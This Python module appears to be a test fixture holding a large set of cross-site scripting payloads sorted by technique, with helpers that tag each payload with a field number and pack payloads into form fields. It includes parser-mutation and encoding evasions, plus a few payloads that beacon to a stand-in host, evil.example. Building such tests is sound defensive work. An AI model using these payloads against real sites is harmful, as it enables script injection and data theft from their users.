"""Ways to make a browser run what somebody typed, by technique. `alert(N)` is the code; N says which field it came from.

Written for this project. Each is tried as it stands: in plain fields, where all of it must stay text, and in rich text,
where some of its elements are allowed.
"""

# Whatever it stands in – text, an attribute in either quotes, one without – it leaves, and then runs. First in every field.
BREAKOUT = "\"'><img src=x onerror=alert(N)>"

ELEMENTS = (
    "<script>alert(N)</script>",
    "<ScRiPt>alert(N)</sCrIpT>",
    "<script src=data:,alert(N)></script>",
    "<script/x>alert(N)</script/x>",
    "<script\x0c>alert(N)</script>",
    "<<script>alert(N)//<</script>",
    "<scr<script>ipt>alert(N)</scr</script>ipt>",
    "<script>alert(N)",
    "<iframe src=javascript:alert(N)></iframe>",
    "<iframe srcdoc='<script>parent.alert(N)</script>'></iframe>",
    "<object data='data:text/html,<script>parent.alert(N)</script>'></object>",
    '<embed src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(N)"/>\'>',
    "<meta http-equiv=refresh content='0;url=javascript:alert(N)'>",
    "<base href='javascript:alert(N)//'>",
    "<link rel=stylesheet href='data:text/css,*{background:url(//evil.example/N)}'>",
    "<portal src='javascript:alert(N)'></portal>",
    "<template shadowrootmode=open><script>alert(N)</script></template>",
    "<frameset onload=alert(N)>",
    "<applet code=alert(N)></applet>",
)
HANDLERS = (
    "<img src=x onerror=alert(N)>",
    "<img/src='x'/onerror=alert(N)>",
    "<img src=x onerror\n=\nalert(N)>",
    "<img src=x:x onerror=`alert(N)`>",
    "<image src=x onerror=alert(N)>",
    "<video><source onerror=alert(N)></video>",
    "<audio src=x onerror=alert(N)>",
    "<body onload=alert(N)>",
    "<body onpageshow=alert(N)>",
    "<details open ontoggle=alert(N)>x</details>",
    "<input autofocus onfocus=alert(N)>",
    "<select autofocus onfocus=alert(N)></select>",
    "<textarea autofocus onfocus=alert(N)></textarea>",
    "<p tabindex=1 autofocus onfocus=alert(N)>x</p>",
    "<marquee onstart=alert(N)>x</marquee>",
    "<p style='animation:x 1s' onanimationstart=alert(N)>x</p><style>@keyframes x{}</style>",
    "<p onpointerrawupdate=alert(N) onmouseover=alert(N)>x</p>",
    "<a href=# onclick=alert(N)>x</a>",
    "<button popovertarget=p>x</button><p popover id=p onbeforetoggle=alert(N)>x</p>",
    "<p contenteditable onbeforeinput=alert(N)>x</p>",
    "<xss onscrollsnapchange=alert(N) style=overflow:auto>x</xss>",
)
ATTRIBUTES = (
    '" autofocus onfocus="alert(N)" x="',
    "' autofocus onfocus='alert(N)' x='",
    " autofocus onfocus=alert(N) x=",
    "` onfocus=`alert(N)` autofocus x=`",
    '" style="animation:x 1s" onanimationstart="alert(N)',
    '"/><script>alert(N)</script>',
    '" srcdoc="&lt;script&gt;alert(N)&lt;/script&gt;',
    "\" formaction='javascript:alert(N)",
    '\r\n" onload=alert(N) "',
)
LINKS = (
    "javascript:alert(N)",
    "JaVaScRiPt:alert(N)",
    " javascript:alert(N)",
    "\x01javascript:alert(N)",
    "java\tscript:alert(N)",
    "java\nscript:alert(N)",
    "javascript\t:alert(N)",
    "javascript://a.example/%0Aalert(N)",
    "javascript:/*--></title></style></textarea></script><svg onload=alert(N)>*/alert(N)",
    "data:text/html,<script>alert(N)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydChOKTwvc2NyaXB0Pg==#alert(N)",
    "data:image/svg+xml,<svg onload=alert(N)>",
    "vbscript:alert(N)",
    "livescript:alert(N)",
    "feed:javascript:alert(N)",
    "view-source:javascript:alert(N)",
    "blob:javascript:alert(N)",
    "//evil.example/?alert(N)",
    'https://a.example/" onmouseover="alert(N)" autofocus onfocus="alert(N)',
    "https://a.example/'onfocus='alert(N)'autofocus='",
    "https://a.example/><script>alert(N)</script>",
)
LINK_ELEMENTS = (
    "<a href=javascript:alert(N)>x</a>",
    "<a href=' &#106;avascript:alert(N)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(N)'>x</a>",
    "<a href='java&Tab;script:alert(N)'>x</a>",
    "<a href='java&NewLine;script&colon;alert(N)'>x</a>",
    "<a href='\x0cjavascript:alert(N)'>x</a>",
    "<a href='data:text/html,<script>alert(N)</script>'>x</a>",
    "<a href='https://a.example/' ping='https://evil.example/N' download>alert(N)</a>",
    "<a href='https://a.example/' title='\"><img src=x onerror=alert(N)>'>x</a>",
    "<form action=javascript:alert(N)><button>x</button></form>",
    "<form><button formaction=javascript:alert(N)>x</button></form>",
    "<map><area href=javascript:alert(N) shape=default></map>",
)
FOREIGN = (
    "<svg onload=alert(N)>",
    "<svg/onload=alert(N)>",
    "<svg><script>alert&lpar;N&rpar;</script></svg>",
    "<svg><a xlink:href=javascript:alert(N)><text>x</text></a></svg>",
    "<svg><animate attributeName=x dur=1s onbegin=alert(N)></svg>",
    "<svg><set attributeName=href to=javascript:alert(N) onbegin=alert(N)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><a href=javascript:alert(N) /></svg>#x'/></svg>",
    "<svg><foreignObject><body onload=alert(N)></foreignObject></svg>",
    "<math href=javascript:alert(N)>x</math>",
    "<math><mi xlink:href=javascript:alert(N)>x</mi></math>",
)
MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror=alert(N)>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(N)&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(N)>'></a></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(N)>",
    "<table><tr><td><svg><desc><table></td></tr></table><img src=x onerror=alert(N)>",
    "<select><template><style><!--</style><a title='--><img src=x onerror=alert(N)>'></a></template></select>",
    "<a href='https://a.example/'><a title='</a><img src=x onerror=alert(N)>'>x</a></a>",
    "<!--><img src=x onerror=alert(N)>-->",
    "<!--!><img src=x onerror=alert(N)>--!>",
    "<![CDATA[><img src=x onerror=alert(N)>]]>",
    "<?xml ><img src=x onerror=alert(N)>?>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=alert(N)>'>]>&y;",
    "</title><img src=x onerror=alert(N)>",
    "</textarea><img src=x onerror=alert(N)>",
    "</style><img src=x onerror=alert(N)>",
    "</xmp><plaintext><img src=x onerror=alert(N)>",
    "<p>&lt;img src=x onerror=alert(N)&gt;</p>",
    "&lt;script&gt;alert(N)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(N)&amp;gt;",
    "<listing>&lt;img src=x onerror=alert(N)&gt;</listing>",
)
STYLES = (
    "<style>*{background:url('//evil.example/N')}@import '//evil.example/alert(N)';</style>",
    "<p style='background:url(//evil.example/N)'>alert(N)</p>",
    "<p style=width:expression(alert(N))>x</p>",
    "<p style='-moz-binding:url(//evil.example/alert(N))'>x</p>",
    "<p style=behavior:url(#alert(N))>x</p>",
    "red;}*{background:url(//evil.example/alert(N))}",
    "</style><script>alert(N)</script><style>",
)
DATA_IN_SCRIPTS = (
    "</script><script>alert(N)</script>",
    "</script ><img src=x onerror=alert(N)>",
    "<!--<script>alert(N)",
    '";alert(N);//',
    "';alert(N);//",
    '\\";alert(N);//',
    "\u2028alert(N)\u2028",
    "${alert(N)}",
    "`-alert(N)-`",
    "*/alert(N)/*",
    "]]><script>alert(N)</script>",
)
TEMPLATES = (
    "{{alert(N)}}",
    "{% debug %}alert(N){# x",
    "{{constructor.constructor('alert(N)')()}}",
    "{{request.user.password}}alert(N)",
    "%(alert(N))s",
    "{alert(N)!r}",
    "<%=alert(N)%>",
    "#{alert(N)}",
    '=HYPERLINK("javascript:alert(N)")',
)
LETTERS = (
    "\uff1cscript\uff1ealert(N)\uff1c/script\uff1e",
    "\u2039img src=x onerror=alert(N)\u203a",
    "<\u0338img src=x onerror=alert(N)>",
    "<img src=x onerror=alert(N)>\u0338",
    "<p title='>\u0338' onfocus=alert(N) tabindex=1 autofocus>x</p>",
    "<im\u200bg src=x onerror=alert(N)>",
    "<\u00adscript>alert(N)</script>",
    "<script\ufeff>alert(N)</script>",
    "\u202e>(N)trela=rorreno x=crs gmi<\u202calert(N)",
    "<ſcript>alert(N)</ſcript>",
    "<svg onload=al\u212art(N) onfocus=alert(N)>",
    "+ADw-script+AD4-alert(N)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(N)%3C/script%3E",
    "\\u003cscript\\u003ealert(N)\\u003c/script\\u003e",
    "\x1b$B<script>alert(N)</script>",
)

WORDS = (
    *(*ELEMENTS, *HANDLERS, *ATTRIBUTES, *LINK_ELEMENTS, *FOREIGN, *MUTATIONS, *STYLES),
    *(*DATA_IN_SCRIPTS, *TEMPLATES, *LETTERS, *LINKS),
)


def armed(payload: str, number: int) -> str:
    """The payload, saying that it came from field `number`."""
    return payload.replace("N)", f"{number})").replace("/N", f"/{number}")


def packed(number: int, room: int, turn: int) -> str:
    """As many payloads as fit into a field of `room` characters: the one that leaves everything, then from the `turn`th on."""
    text = armed(BREAKOUT, number)
    for payload in WORDS[turn % len(WORDS) :] + WORDS[: turn % len(WORDS)]:
        more = armed(payload, number)
        if len(text) + len(more) + 1 <= room:
            text += " " + more
    return text[:room]


def link(number: int, room: int, turn: int) -> str:
    """A hostile address."""
    return armed(LINKS[turn % len(LINKS)], number)[:room]


def markup(number: int) -> str:
    """All payloads as rich text, each in a paragraph of its own, then each bare."""
    every = [armed(payload, number) for payload in (BREAKOUT, *WORDS)]
    return "".join(f"<p>{number} {p}</p>" for p in every) + "".join(every)
